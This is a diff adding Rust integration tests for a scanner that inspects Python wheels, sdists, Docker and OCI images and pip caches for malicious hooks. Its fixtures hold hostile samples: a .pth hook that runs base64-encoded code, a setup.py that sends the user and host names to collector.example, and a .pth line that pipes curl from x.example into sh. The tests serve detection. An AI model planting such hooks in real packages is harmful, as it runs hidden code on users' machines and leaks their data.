@@ -1,0 +1,472 @@
+//! Artifacts end to end: wheels, sdists, `docker save` and OCI images, pip caches and nested
+//! archives, all built inside the test (no network), scanned by the built binary.
+
+use std::io::Write;
+use std::path::Path;
+
+use base64::Engine;
+use sha2::Digest;
+
+use crate::util::*;
+
+/// A hook line that runs encoded code at every start.
+const EVIL_PTH: &str =
+    "import os;exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n";
+
+fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for (name, data) in members {
+        w.start_file(*name, zip::write::SimpleFileOptions::default())
+            .unwrap();
+        w.write_all(data).unwrap();
+    }
+    w.finish().unwrap().into_inner()
+}
+
+fn record_row(name: &str, data: &[u8]) -> String {
+    let digest =
+        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data));
+    format!("{name},sha256={digest},{}\n", data.len())
+}
+
+/// A wheel whose RECORD lists `recorded` (with the hash of the second element) and the
+/// metadata; `extra` members are packed without a RECORD row.
+fn wheel(dist: &str, recorded: &[(&str, &[u8], &[u8])], extra: &[(&str, &[u8])]) -> Vec<u8> {
+    let info = format!("{dist}-1.0.dist-info");
+    let metadata = format!("Metadata-Version: 2.1\nName: {dist}\nVersion: 1.0\n\n");
+    let wheel_file = b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
+    let mut record = String::new();
+    let mut members: Vec<(String, Vec<u8>)> = Vec::new();
+    for (name, packed, listed) in recorded {
+        record.push_str(&record_row(name, listed));
+        members.push((name.to_string(), packed.to_vec()));
+    }
+    for (name, data) in [
+        (format!("{info}/METADATA"), metadata.into_bytes()),
+        (format!("{info}/WHEEL"), wheel_file.to_vec()),
+    ] {
+        record.push_str(&record_row(&name, &data));
+        members.push((name, data));
+    }
+    record.push_str(&format!("{info}/RECORD,,\n"));
+    members.extend(extra.iter().map(|(n, d)| (n.to_string(), d.to_vec())));
+    members.push((format!("{info}/RECORD"), record.into_bytes()));
+    let refs: Vec<(&str, &[u8])> = members
+        .iter()
+        .map(|(n, d)| (n.as_str(), d.as_slice()))
+        .collect();
+    zip_of(&refs)
+}
+
+fn evil_wheel() -> Vec<u8> {
+    wheel(
+        "evil",
+        &[(
+            "evil/__init__.py",
+            b"print('changed after the build')\n",
+            b"print('hello')\n",
+        )],
+        &[
+            ("evil_init.pth", EVIL_PTH.as_bytes()),
+            ("evil-1.0.data/purelib/second.pth", EVIL_PTH.as_bytes()),
+        ],
+    )
+}
+
+fn tar_of(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut b = tar::Builder::new(Vec::new());
+    for (name, data) in members {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        b.append_data(&mut h, name, *data).unwrap();
+    }
+    b.into_inner().unwrap()
+}
+
+fn gzip(data: &[u8]) -> Vec<u8> {
+    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    e.write_all(data).unwrap();
+    e.finish().unwrap()
+}
+
+fn sha(data: &[u8]) -> String {
+    format!("{:x}", sha2::Sha256::digest(data))
+}
+
+/// (rule, severity, path) of every finding, paths shown relative to `dir`.
+fn found(json: &serde_json::Value, dir: &Path) -> Vec<(String, String, String)> {
+    let root = std::fs::canonicalize(dir).unwrap();
+    let prefix = format!("{}/", root.display());
+    let mut out: Vec<_> = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            let path = f["location"]["path"].as_str().unwrap();
+            let line = f["location"]["line"]
+                .as_u64()
+                .map_or(String::new(), |l| format!(":{l}"));
+            (
+                f["rule"].as_str().unwrap().to_owned(),
+                f["severity"].as_str().unwrap().to_owned(),
+                format!("{}{line}", path.strip_prefix(&prefix).unwrap_or(path)),
+            )
+        })
+        .collect();
+    out.sort();
+    out
+}
+
+fn has(found: &[(String, String, String)], rule: &str, severity: &str, path: &str) -> bool {
+    found
+        .iter()
+        .any(|(r, s, p)| r == rule && s == severity && p == path)
+}
+
+#[test]
+fn a_wheelhouse_is_judged_where_each_wheel_installs_and_against_its_record() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("evil-1.0-py3-none-any.whl"), evil_wheel()).unwrap();
+    let benign = wheel(
+        "tool",
+        &[
+            (
+                "distutils-precedence.pth",
+                b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
+                b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
+            ),
+            ("tool/__init__.py", b"x = 1\n", b"x = 1\n"),
+        ],
+        &[],
+    );
+    std::fs::write(dir.path().join("tool-1.0-py3-none-any.whl"), benign).unwrap();
+    let (json, out) = scan_json(dir.path(), &[]);
+    let f = found(&json, dir.path());
+    let evil = "evil-1.0-py3-none-any.whl";
+    assert!(
+        f.iter().any(|(r, s, p)| r.starts_with("PTH")
+            && (s == "high" || s == "critical")
+            && p == &format!("{evil} › evil_init.pth:1")),
+        "{f:#?}"
+    );
+    assert!(
+        f.iter().any(|(r, s, p)| r.starts_with("PTH")
+            && (s == "high" || s == "critical")
+            && p == &format!("{evil} › evil-1.0.data/purelib/second.pth:1")),
+        "{f:#?}"
+    );
+    assert!(
+        has(&f, "REC001", "medium", &format!("{evil} › evil_init.pth")),
+        "{f:#?}"
+    );
+    assert!(
+        has(&f, "REC003", "high", &format!("{evil} › evil/__init__.py")),
+        "{f:#?}"
+    );
+    // the benign wheel: its known-good hook at info, nothing else at all
+    let tool: Vec<_> = f
+        .iter()
+        .filter(|(_, _, p)| p.starts_with("tool-1.0"))
+        .collect();
+    assert_eq!(tool.len(), 1, "{tool:#?}");
+    assert_eq!((tool[0].0.as_str(), tool[0].1.as_str()), ("PTH001", "info"));
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+    assert_eq!(json["summary"]["artifacts"], 2);
+}
+
+#[test]
+fn an_sdist_setup_py_is_install_time_code_and_an_honest_one_passes() {
+    let dir = tempfile::tempdir().unwrap();
+    let setup = b"import getpass, socket, requests\nfrom setuptools import setup\nrequests.post('https://collector.example/p', json={'u': getpass.getuser(), 'h': socket.gethostname()})\nsetup(name='corp-internal', version='99.0')\n";
+    let sdist = gzip(&tar_of(&[
+        (
+            "corp-internal-99.0/PKG-INFO",
+            b"Metadata-Version: 2.1\nName: corp-internal\nVersion: 99.0\n",
+        ),
+        ("corp-internal-99.0/setup.py", setup),
+        (
+            "corp-internal-99.0/corp_internal/__init__.py",
+            b"VERSION = '99.0'\n",
+        ),
+    ]));
+    std::fs::write(dir.path().join("corp-internal-99.0.tar.gz"), sdist).unwrap();
+    let (json, out) = scan_json(dir.path(), &[]);
+    let f = found(&json, dir.path());
+    assert!(
+        f.iter().any(|(r, s, p)| r == "install-beacon"
+            && s == "high"
+            && p.starts_with("corp-internal-99.0.tar.gz › corp-internal-99.0/setup.py:")),
+        "{f:#?}"
+    );
+    assert_eq!(code(&out), 1);
+
+    let honest = tempfile::tempdir().unwrap();
+    let setup = b"import os, subprocess\nfrom setuptools import setup\nexec(open(os.path.join('pkg', 'version.py')).read())\nsetup(name='pkg', version=__version__)\n";
+    std::fs::write(
+        honest.path().join("pkg-1.0.zip"),
+        zip_of(&[
+            ("pkg-1.0/setup.py", setup),
+            ("pkg-1.0/PKG-INFO", b"Name: pkg\nVersion: 1.0\n"),
+            ("pkg-1.0/pkg/version.py", b"__version__ = '1.0'\n"),
+        ]),
+    )
+    .unwrap();
+    let (json, out) = scan_json(honest.path(), &[]);
+    assert_eq!(found(&json, honest.path()), [], "{json:#}");
+    assert_eq!(code(&out), 0);
+}
+
+/// Layers and config of a two-layer image: layer 2 deletes `old.pth` (whiteout) and empties a
+/// venv's site directory (opaque), and adds `new.pth`; a wheel sits in root's pip cache.
+fn image_parts() -> (Vec<Vec<u8>>, Vec<u8>) {
+    let sp = "usr/local/lib/python3.12/site-packages";
+    let venv_sp = "opt/venv/lib/python3.12/site-packages";
+    let layer1 = tar_of(&[
+        ("usr/local/lib/python3.12/os.py", b"# os\n"),
+        (&format!("{sp}/old.pth"), EVIL_PTH.as_bytes()),
+        ("opt/venv/pyvenv.cfg", b"version = 3.12.1\n"),
+        (&format!("{venv_sp}/gone.pth"), EVIL_PTH.as_bytes()),
+    ]);
+    let wheel = evil_wheel();
+    let layer2 = gzip(&tar_of(&[
+        (&format!("{sp}/.wh.old.pth"), b""),
+        (&format!("{venv_sp}/.wh..wh..opq"), b""),
+        (
+            &format!("{sp}/new.pth"),
+            b"import os; os.system('curl -s https://x.example/a | sh')\n",
+        ),
+        (
+            "root/.cache/pip/wheels/ab/cd/evil-1.0-py3-none-any.whl",
+            &wheel,
+        ),
+    ]));
+    let config = serde_json::json!({
+        "architecture": "amd64", "os": "linux",
+        "rootfs": {"type": "layers", "diff_ids": []},
+        "history": [
+            {"created_by": "/bin/sh -c #(nop) ADD file:base in /"},
+            {"created_by": "/bin/sh -c #(nop) ENV LANG=C.UTF-8", "empty_layer": true},
+            {"created_by": "RUN pip install evil"}
+        ]
+    });
+    (vec![layer1, layer2], serde_json::to_vec(&config).unwrap())
+}
+
+fn assert_image_findings(json: &serde_json::Value, dir: &Path, image: &str) {
+    let f = found(json, dir);
+    let layer2 = format!("layer 2 sha256:{}", &sha(&image_parts().0[1])[..12]);
+    let new = format!("{image} › {layer2} › usr/local/lib/python3.12/site-packages/new.pth:1");
+    assert!(
+        f.iter()
+            .any(|(r, s, p)| r.starts_with("PTH") && s == "high" && p == &new),
+        "{new}\n{f:#?}"
+    );
+    assert!(
+        !f.iter()
+            .any(|(_, _, p)| p.contains("old.pth") || p.contains("gone.pth")),
+        "{f:#?}"
+    );
+    // the wheel in the cache layer is opened too
+    let cached = format!(
+        "{image} › {layer2} › root/.cache/pip/wheels/ab/cd/evil-1.0-py3-none-any.whl › evil_init.pth:1"
+    );
+    assert!(f.iter().any(|(_, _, p)| p == &cached), "{cached}\n{f:#?}");
+    let note = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|x| x["location"]["path"].as_str().unwrap().ends_with("new.pth"))
+        .unwrap()["notes"]
+        .to_string();
+    assert!(
+        note.contains("layer 2 was created by: RUN pip install evil"),
+        "{note}"
+    );
+}
+
+#[test]
+fn a_docker_save_tarball_applies_layers_in_order_and_names_the_layer() {
+    let dir = tempfile::tempdir().unwrap();
+    let (layers, config) = image_parts();
+    let mut members: Vec<(String, Vec<u8>)> = Vec::new();
+    let mut names = Vec::new();
+    for l in &layers {
+        let name = format!("blobs/sha256/{}", sha(l));
+        names.push(name.clone());
+        members.push((name, l.clone()));
+    }
+    let config_name = format!("blobs/sha256/{}", sha(&config));
+    members.push((config_name.clone(), config.clone()));
+    let manifest =
+        serde_json::json!([{"Config": config_name, "RepoTags": ["evil:latest"], "Layers": names}]);
+    members.push((
+        "manifest.json".into(),
+        serde_json::to_vec(&manifest).unwrap(),
+    ));
+    let refs: Vec<(&str, &[u8])> = members
+        .iter()
+        .map(|(n, d)| (n.as_str(), d.as_slice()))
+        .collect();
+    std::fs::write(dir.path().join("evil.tar"), tar_of(&refs)).unwrap();
+    let (json, out) = scan_json(&dir.path().join("evil.tar"), &[]);
+    assert_image_findings(&json, dir.path(), "evil.tar › evil:latest");
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+}
+
+/// An OCI layout: index → manifest → config and layers (the second one zstd-compressed).
+fn oci_layout() -> Vec<(String, Vec<u8>)> {
+    let (layers, config) = image_parts();
+    let plain = &layers[0];
+    let zstd = {
+        let mut tar2 = Vec::new();
+        flate2::read::GzDecoder::new(&layers[1][..])
+            .read_to_end(&mut tar2)
+            .unwrap();
+        ruzstd::encoding::compress_to_vec(&tar2[..], ruzstd::encoding::CompressionLevel::Fastest)
+    };
+    let desc = |media: &str, data: &[u8]| serde_json::json!({"mediaType": media, "digest": format!("sha256:{}", sha(data)), "size": data.len()});
+    let manifest = serde_json::json!({
+        "schemaVersion": 2,
+        "mediaType": "application/vnd.oci.image.manifest.v1+json",
+        "config": desc("application/vnd.oci.image.config.v1+json", &config),
+        "layers": [desc("application/vnd.oci.image.layer.v1.tar", plain), desc("application/vnd.oci.image.layer.v1.tar+zstd", &zstd)]
+    });
+    let manifest = serde_json::to_vec(&manifest).unwrap();
+    let mut index_entry = desc("application/vnd.oci.image.manifest.v1+json", &manifest);
+    index_entry["annotations"] =
+        serde_json::json!({"org.opencontainers.image.ref.name": "evil:oci"});
+    let index = serde_json::json!({"schemaVersion": 2, "manifests": [index_entry]});
+    let mut files = vec![
+        (
+            "oci-layout".to_owned(),
+            br#"{"imageLayoutVersion": "1.0.0"}"#.to_vec(),
+        ),
+        ("index.json".to_owned(), serde_json::to_vec(&index).unwrap()),
+    ];
+    for blob in [plain.clone(), zstd, config, manifest] {
+        files.push((format!("blobs/sha256/{}", sha(&blob)), blob));
+    }
+    files
+}
+
+use std::io::Read;
+
+#[test]
+fn an_oci_layout_is_read_as_a_tar_and_as_a_directory() {
+    let files = oci_layout();
+    // the zstd layer's digest differs from the docker-save one: compare by path suffix
+    let check = |json: &serde_json::Value, dir: &Path, image: &str| {
+        let f = found(json, dir);
+        assert!(
+            f.iter().any(|(r, s, p)| r.starts_with("PTH")
+                && s == "high"
+                && p.starts_with(&format!("{image} › layer 2 sha256:"))
+                && p.ends_with("site-packages/new.pth:1")),
+            "{f:#?}"
+        );
+        assert!(
+            !f.iter()
+                .any(|(_, _, p)| p.contains("old.pth") || p.contains("gone.pth")),
+            "{f:#?}"
+        );
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let refs: Vec<(&str, &[u8])> = files
+        .iter()
+        .map(|(n, d)| (n.as_str(), d.as_slice()))
+        .collect();
+    std::fs::write(dir.path().join("oci.tar"), tar_of(&refs)).unwrap();
+    let (json, _) = scan_json(&dir.path().join("oci.tar"), &[]);
+    check(&json, dir.path(), "oci.tar › evil:oci");
+
+    let layout = dir.path().join("layout");
+    for (name, data) in &files {
+        let p = layout.join(name);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, data).unwrap();
+    }
+    let (json, out) = scan_json(&layout, &[]);
+    check(&json, dir.path(), "layout › evil:oci");
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+}
+
+#[test]
+fn a_pip_cache_entry_is_recognised_by_content_and_nesting_is_bounded() {
+    let dir = tempfile::tempdir().unwrap();
+    let body = dir
+        .path()
+        .join("home/ann/.cache/pip/http-v2/a/b/c/d/e/0f1e2d3c.body");
+    std::fs::create_dir_all(body.parent().unwrap()).unwrap();
+    std::fs::write(&body, evil_wheel()).unwrap();
+    // an index page in the same cache is no package: nothing to say about it
+    std::fs::write(
+        body.with_file_name("99aa.body"),
+        b"<html>simple index</html>",
+    )
+    .unwrap();
+    let (json, _) = scan_json(&dir.path().join("home"), &[]);
+    let f = found(&json, dir.path());
+    assert!(
+        f.iter().any(|(_, _, p)| p
+            == "home/ann/.cache/pip/http-v2/a/b/c/d/e/0f1e2d3c.body › evil_init.pth:1"),
+        "{f:#?}"
+    );
+    assert_eq!(json["diagnostics"], serde_json::json!([]));
+
+    // a wheel in a zip in a zip, opened to depth 2: the innermost is reported, not opened
+    let deep = tempfile::tempdir().unwrap();
+    let inner = zip_of(&[("evil-1.0-py3-none-any.whl", &evil_wheel())]);
+    let outer = zip_of(&[("bundle.zip", &inner)]);
+    std::fs::write(deep.path().join("outer.zip"), outer).unwrap();
+    let (json, out) = scan_json(
+        &deep.path().join("outer.zip"),
+        &["--max-archive-depth", "2"],
+    );
+    let diags = json["diagnostics"].to_string();
+    assert!(
+        diags.contains("bundle.zip › evil-1.0-py3-none-any.whl") && diags.contains("nested deeper"),
+        "{diags}"
+    );
+    assert_eq!(code(&out), 2);
+    let (json, out) = scan_json(&deep.path().join("outer.zip"), &[]);
+    assert!(found(&json, deep.path()).iter().any(
+        |(_, _, p)| p == "outer.zip › bundle.zip › evil-1.0-py3-none-any.whl › evil_init.pth:1"
+    ));
+    assert_eq!(code(&out), 1);
+}
+
+#[test]
+fn a_broken_artifact_is_named_and_the_scan_goes_on() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut cut = evil_wheel();
+    cut.truncate(cut.len() / 2);
+    std::fs::write(dir.path().join("cut-1.0-py3-none-any.whl"), cut).unwrap();
+    std::fs::write(dir.path().join("evil-1.0-py3-none-any.whl"), evil_wheel()).unwrap();
+    std::fs::write(dir.path().join("notes.zip"), b"not a zip at all").unwrap();
+    let (json, out) = scan_json(dir.path(), &[]);
+    let diags: Vec<String> = json["diagnostics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|d| format!("{} {}", d["path"], d["message"]))
+        .collect();
+    assert!(
+        diags
+            .iter()
+            .any(|d| d.contains("cut-1.0-py3-none-any.whl") && d.contains("not a readable zip")),
+        "{diags:#?}"
+    );
+    assert!(
+        diags
+            .iter()
+            .any(|d| d.contains("notes.zip") && d.contains("not a zip or tar archive")),
+        "{diags:#?}"
+    );
+    assert!(
+        found(&json, dir.path())
+            .iter()
+            .any(|(_, _, p)| p.starts_with("evil-1.0-py3-none-any.whl › "))
+    );
+    assert_eq!(code(&out), 2);
+}
